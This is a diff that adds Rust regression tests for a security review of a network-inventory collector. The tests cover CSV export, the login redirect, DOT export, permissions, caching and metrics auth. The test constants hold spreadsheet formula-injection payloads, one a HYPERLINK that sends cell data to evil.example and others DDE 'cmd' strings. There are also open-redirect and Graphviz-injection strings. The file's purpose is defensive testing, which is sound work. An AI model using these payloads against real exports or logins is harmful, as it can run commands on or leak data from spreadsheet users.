@@ -1,0 +1,423 @@
+//! Regression tests of the adversarial review (issue "Hostile LAN, curious users"), one
+//! per finding, each named after it, against a real collector: CSV formula injection in
+//! every CSV, the open redirect after login, DOT escaping checked by Graphviz itself, the
+//! check-in 404 that listed obligations, file modes whatever the umask, `no-store` on
+//! private answers, and `/metrics` closed by default.
+
+#![allow(
+    clippy::unwrap_used,
+    reason = "test code: a panic is the failure report"
+)]
+
+use std::os::unix::fs::PermissionsExt;
+use std::process::Command;
+
+use simpul_e2e::{agent_id, need, post, report, Collector};
+
+/// Strings an agency LAN or a backup job controls, shaped as spreadsheet formulas.
+/// (A cell starting with a tab or carriage return is neutralised too, see the unit test
+/// in collector/src/csv.rs; reports refuse control characters in names.)
+const FORMULAS: [&str; 4] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+];
+
+const TABLES: &str = r#"
+[[sla_classes]]
+id = "colocation-gold"
+target_percent = 99.9
+
+[[host_sla]]
+agency = "dinkes"
+host = "web-01"
+sla = "colocation-gold"
+
+[[backups]]
+id = "dinkes-simpus"
+agency = "dinkes"
+dataset = "SIMPUS database"
+interval = "24h"
+evidence = "checkin"
+"#;
+
+fn send(c: &Collector, token: &str, r: &serde_json::Value) {
+    let (code, body) = post(
+        &c.url("/api/v1/reports"),
+        &[("authorization", &format!("Bearer {token}"))],
+        &serde_json::to_vec(r).unwrap(),
+    );
+    assert_eq!(code, 200, "{body}");
+}
+
+/// A LAN section with one device per (id, name, vendor).
+fn lan(devices: &[(&str, &str, &str)]) -> serde_json::Value {
+    let devs: Vec<_> = devices
+        .iter()
+        .map(|(id, name, vendor)| {
+            serde_json::json!({"id": id, "type": "host", "name": name, "vendor": vendor,
+                "addresses": [], "sources": ["icmp"]})
+        })
+        .collect();
+    serde_json::json!({"subnets": ["10.20.0.0/24"], "topology": {"devices": devs, "links": []},
+        "hash": "", "duration_seconds": 0.5})
+}
+
+/// One request without following redirects, with curl: (status, headers, body).
+fn raw(url: &str, method: &str, headers: &[&str], form: &str) -> (u16, String, String) {
+    let mut cmd = Command::new("curl");
+    cmd.args(["-s", "-i", "-X", method, url]);
+    for h in headers {
+        cmd.args(["-H", h]);
+    }
+    if !form.is_empty() {
+        cmd.args([
+            "-H",
+            "Content-Type: application/x-www-form-urlencoded",
+            "--data-binary",
+            form,
+        ]);
+    }
+    let out = cmd.output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+    let code = head
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0);
+    (code, head.to_ascii_lowercase(), body.to_owned())
+}
+
+/// The value of cookie `name` set in `head`.
+fn set_cookie(head: &str, name: &str) -> String {
+    head.lines()
+        .find_map(|l| l.strip_prefix(&format!("set-cookie: {name}=")))
+        .and_then(|v| v.split(';').next())
+        .unwrap_or_else(|| panic!("no {name} cookie in {head}"))
+        .to_owned()
+}
+
+/// Logs in through the form as `name`; returns the session cookie header.
+fn login(c: &Collector, name: &str, password: &str) -> String {
+    let (code, head, _) = raw(&c.url("/login"), "GET", &[], "");
+    assert_eq!(code, 200);
+    let token = set_cookie(&head, "simpul_login");
+    let (code, head, _) = raw(
+        &c.url("/login"),
+        "POST",
+        &[&format!("Cookie: simpul_login={token}")],
+        &format!("name={name}&password={password}&login_csrf={token}&next=/"),
+    );
+    assert_eq!(code, 303, "login of {name}: {head}");
+    format!(
+        "Cookie: simpul_session={}",
+        set_cookie(&head, "simpul_session")
+    )
+}
+
+/// A Diskominfo admin with a generated password; returns the password.
+fn add_admin(c: &Collector, name: &str) -> String {
+    let (code, pw, err) = c.cli(&["user", "add", name, "--role", "admin"]);
+    assert_eq!(code, 0, "{err}");
+    pw.trim().to_owned()
+}
+
+/// The cells of an RFC 4180 document.
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let (mut row, mut cell) = (Vec::new(), String::new());
+    let mut chars = text.chars().peekable();
+    let mut quoted = false;
+    while let Some(ch) = chars.next() {
+        match (quoted, ch) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, ch) => cell.push(ch),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, ch) => cell.push(ch),
+        }
+    }
+    assert!(!quoted, "unterminated quote in {text}");
+    rows
+}
+
+/// A cell a spreadsheet would run as a formula (OWASP CSV injection).
+fn is_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
+}
+
+#[test]
+fn csv_formula_injection_is_neutralised_in_every_csv() {
+    let c = Collector::start_full("", TABLES);
+    let token = c.enrol("dinkes", "web-01", Some("pusat-data"));
+    let mut r = report(&agent_id(&token), "web-01", 1);
+    let devices: Vec<(String, &str, &str)> = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, f)| (format!("ip:10.20.0.{}", i + 10), *f, *f))
+        .collect();
+    let refs: Vec<(&str, &str, &str)> = devices
+        .iter()
+        .map(|(a, b, d)| (a.as_str(), *b, *d))
+        .collect();
+    r["lan"] = lan(&refs);
+    send(&c, &token, &r);
+    // a backup job's check-in message reaches the backups CSV
+    let (code, t, err) = c.cli(&["backup", "token", "dinkes-simpus"]);
+    assert_eq!(code, 0, "{err}");
+    let (code, body) = post(
+        &c.url("/api/v1/backups/dinkes-simpus/checkin"),
+        &[("authorization", &format!("Bearer {}", t.trim()))],
+        serde_json::json!({"status": "fail", "message": FORMULAS[0]})
+            .to_string()
+            .as_bytes(),
+    );
+    assert_eq!(code, 201, "{body}");
+    let pw = add_admin(&c, "supervisor");
+    let session = login(&c, "supervisor", &pw);
+    let (_, reader, err) = c.cli(&["user", "token", "supervisor"]);
+    assert!(!reader.trim().is_empty(), "{err}");
+    let bearer = format!("Authorization: Bearer {}", reader.trim());
+    let mut seen_neutralised = 0;
+    for (path, auth) in [
+        ("/inventory.csv", &session),
+        ("/scorecard.csv", &session),
+        ("/sla.csv", &session),
+        ("/backups.csv", &session),
+        ("/api/v1/backups?format=csv", &bearer),
+        ("/api/v1/sla?format=csv", &bearer),
+        ("/api/v1/lan?format=csv", &bearer),
+    ] {
+        let (code, head, body) = raw(&c.url(path), "GET", &[auth], "");
+        assert_eq!(code, 200, "{path}: {body}");
+        assert!(head.contains("text/csv"), "{path}: {head}");
+        let rows = parse_csv(&body);
+        assert!(rows.len() > 1, "{path}: no rows in {body}");
+        for cell in rows.iter().flatten() {
+            assert!(
+                !is_formula(cell),
+                "{path}: formula cell {cell:?} in\n{body}"
+            );
+            if FORMULAS.iter().any(|f| cell == &format!("'{f}")) {
+                seen_neutralised += 1;
+            }
+        }
+    }
+    // the hostile names are there, neutralised: names and vendors of 4 devices in the
+    // inventory
+    assert!(
+        seen_neutralised >= 8,
+        "{seen_neutralised} neutralised cells"
+    );
+}
+
+#[test]
+fn open_redirect_after_login_is_refused() {
+    let c = Collector::start("");
+    let pw = add_admin(&c, "supervisor");
+    // the login form carries only a same-origin path onwards
+    let (code, _, body) = raw(&c.url("/login?next=/%09/evil.example"), "GET", &[], "");
+    assert_eq!(code, 200);
+    assert!(body.contains(r#"name="next" value="/""#), "{body}");
+    for evil in [
+        "%2F%09%2Fevil.example",
+        "%2F%2Fevil.example",
+        "%2F%5Cevil.example",
+        "%2F%250a%2Fevil.example",
+        "https%3A%2F%2Fevil.example",
+    ] {
+        let (code, head, _) = raw(&c.url("/login"), "GET", &[], "");
+        assert_eq!(code, 200);
+        let token = set_cookie(&head, "simpul_login");
+        let (code, head, _) = raw(
+            &c.url("/login"),
+            "POST",
+            &[&format!("Cookie: simpul_login={token}")],
+            &format!("name=supervisor&password={pw}&login_csrf={token}&next={evil}"),
+        );
+        assert_eq!(code, 303, "{evil}: {head}");
+        assert!(
+            head.lines().any(|l| l.trim() == "location: /"),
+            "{evil}: {head}"
+        );
+    }
+}
+
+#[test]
+fn dot_export_escapes_backslashes_and_quotes() {
+    let c = Collector::start("");
+    let token = c.enrol("dinkes", "opd-agent", Some("kantor-dinkes"));
+    let hostile = [
+        ("ip:10.20.0.1", "trailing\\", "v\\"),
+        ("ip:10.20.0.2\\", "q\\\"]; evil [label=\"x", "\"quoted\""),
+        ("ip:10.20.0.3", "line\\", "\\\\\\"),
+        ("ip:10.20.0.4", "\\N \\G \\l", "<b>html</b>"),
+        ("mac:02:00:00:00:00:05", "}; digraph evil {", "\\\\"),
+    ];
+    let mut r = report(&agent_id(&token), "opd-agent", 1);
+    r["lan"] = lan(&hostile);
+    r["lan"]["topology"]["links"] = serde_json::json!([{
+        "a": {"device": "ip:10.20.0.1", "port": "ge-0/0/1\\"},
+        "b": {"device": "mac:02:00:00:00:00:05", "port": "\"eth0\""},
+        "source": "lldp"
+    }]);
+    send(&c, &token, &r);
+    let (code, dot) = simpul_e2e::get(&c.url("/api/v1/agencies/dinkes/lan.dot"));
+    assert_eq!(code, 200, "{dot}");
+    let mut child = Command::new(need("dot"))
+        .arg("-Tplain")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(dot.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    let plain = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "Graphviz refused the export:\n{}\n{dot}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let nodes = plain.lines().filter(|l| l.starts_with("node ")).count();
+    let edges = plain.lines().filter(|l| l.starts_with("edge ")).count();
+    assert_eq!(nodes, hostile.len(), "one node per device:\n{plain}\n{dot}");
+    assert_eq!(edges, 1, "{plain}");
+    assert!(!plain.contains("node evil"), "{plain}");
+}
+
+#[test]
+fn check_in_404_does_not_list_obligations() {
+    let c = Collector::start_full("", TABLES);
+    let (code, body) = post(
+        &c.url("/api/v1/backups/nope/checkin"),
+        &[("authorization", "Bearer smb1_guess")],
+        br#"{"status":"ok"}"#,
+    );
+    assert_eq!(code, 404, "{body}");
+    assert!(!body.contains("dinkes-simpus"), "{body}");
+    // an agency user asking for another agency's history learns nothing either
+    let (code, body) = simpul_e2e::get(&c.url("/api/v1/backups/nope/history"));
+    assert_eq!(code, 404);
+    assert!(!body.contains("dinkes-simpus"), "{body}");
+}
+
+#[test]
+fn data_directory_and_database_are_private_whatever_the_umask() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("fresh/data");
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "umask 000 && {} user add ops --role admin --data-dir {}",
+            simpul_e2e::bin("simpul-collector").display(),
+            data.display()
+        ))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&data), 0o700, "data directory");
+    for entry in std::fs::read_dir(&data).unwrap() {
+        let p = entry.unwrap().path();
+        assert_eq!(mode(&p), 0o600, "{}", p.display());
+    }
+    assert!(data.join("simpul.db").exists());
+    // a database left world-readable by an older version loses others' access
+    std::fs::set_permissions(
+        data.join("simpul.db"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    let out = Command::new(simpul_e2e::bin("simpul-collector"))
+        .args(["agent", "list", "--data-dir"])
+        .arg(&data)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    assert_eq!(mode(&data.join("simpul.db")), 0o640);
+}
+
+#[test]
+fn private_answers_are_not_cached() {
+    let c = Collector::start("");
+    let token = c.enrol("dinkes", "opd-agent", Some("kantor-dinkes"));
+    let mut r = report(&agent_id(&token), "opd-agent", 1);
+    r["lan"] = lan(&[("ip:10.20.0.1", "pc-01", "")]);
+    send(&c, &token, &r);
+    let (_, admin, _) = c.cli(&["admin", "add", "--name", "cache check"]);
+    let auth = format!("Authorization: Bearer {}", admin.trim());
+    for path in [
+        "/api/v1/hosts",
+        "/api/v1/sla?format=csv",
+        "/api/v1/agencies/dinkes/lan.svg",
+        "/api/v1/agencies/dinkes/lan.dot",
+        "/metrics",
+    ] {
+        let (code, head, _) = raw(&c.url(path), "GET", &[&auth], "");
+        assert_eq!(code, 200, "{path}");
+        assert!(head.contains("cache-control: no-store"), "{path}: {head}");
+    }
+}
+
+#[test]
+fn metrics_needs_a_scrape_token_by_default() {
+    let c = Collector::start("");
+    let metrics = c.url("/metrics");
+    let (code, body) = simpul_e2e::get_anonymous(&metrics);
+    assert_eq!(code, 401, "{body}");
+    assert!(body.contains("scrape-token add"), "{body}");
+    let scrape = c.scrape_token();
+    assert!(scrape.starts_with("sms1_"), "{scrape}");
+    let with = |token: &str, url: &str| {
+        simpul_e2e::request(
+            "GET",
+            url,
+            &[("authorization", &format!("Bearer {token}"))],
+            b"",
+        )
+    };
+    let (code, body) = with(&scrape, &metrics);
+    assert_eq!(code, 200);
+    assert!(body.contains("simpul_ingest_reports_stored_total"));
+    // it reads /metrics and nothing else
+    assert_eq!(with(&scrape, &c.url("/api/v1/hosts")).0, 401);
+    // listed, and refused once revoked
+    let (code, list, _) = c.cli(&["scrape-token", "list"]);
+    assert_eq!(code, 0);
+    let id = scrape.split('_').nth(1).unwrap();
+    assert!(
+        list.lines()
+            .any(|l| l.starts_with(id) && l.ends_with("active")),
+        "{list}"
+    );
+    let (code, _, err) = c.cli(&["scrape-token", "revoke", id]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(with(&scrape, &metrics).0, 401);
+    let (code, _, err) = c.cli(&["scrape-token", "revoke", id]);
+    assert_eq!(code, 2, "revoking twice names the mistake");
+    assert!(err.contains("no active scrape token"), "{err}");
+    // metrics_auth = false opens it, as a deliberate choice
+    let open = Collector::start("metrics_auth = false");
+    assert_eq!(simpul_e2e::get_anonymous(&open.url("/metrics")).0, 200);
+}
